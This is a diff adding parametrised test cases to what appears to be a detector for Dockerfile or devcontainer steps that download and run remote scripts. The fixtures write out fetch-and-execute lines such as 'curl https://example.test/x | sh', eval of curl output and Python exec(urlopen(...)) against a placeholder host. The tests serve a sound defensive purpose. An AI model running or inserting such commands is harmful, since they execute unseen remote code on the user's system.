@@ -20,6 +20,19 @@ test('a lifecycle command', () =>
     'postCreateCommand fetches and runs a script that nobody has seen: wget -qO- https://example.test/x | bash',
   ]));
 
+test.each([
+  ['/x.sh', 'curl https://example.test/x | sh\n', 'bash /x.sh', 1],
+  ['/x.sh', '#!/bin/sh\nX=$(curl https://example.test/x)\neval "$X"\n', '/x.sh', 1],
+  ['/x.sh', 'curl -o /tmp/i.sh https://example.test/x\n', 'sh /x.sh && sh /tmp/i.sh', 1],
+  ['x.py', 'exec(urlopen("https://example.test/x").read())', 'python3 x.py', 1],
+  ['/x.sh', 'curl -O https://example.test/x\n', 'bash /x.sh', 0],
+  ['/x.sh', 'curl https://example.test/x | sh\n', 'bash /y.sh', 0],
+  ['/x.sh', 'make\n', 'bash /x.sh', 0],
+])('the file %s that the Dockerfile writes, %j, and %j', (target, text, command, count) => {
+  const request = build({ writtenFiles: [said({ target, text })], steps: [said({ command, flags: [] })] });
+  expect(messages(remoteScriptExecuted, request)).toHaveLength(count);
+});
+
 test('clear', () => {
   expect(messages(remoteScriptExecuted, steps('apt-get update', 'curl -o x.tgz https://example.test/x.tgz && tar xf x.tgz'))).toEqual([]);
   expect(messages(remoteScriptExecuted, command('npm ci && npm run build'))).toEqual([]);
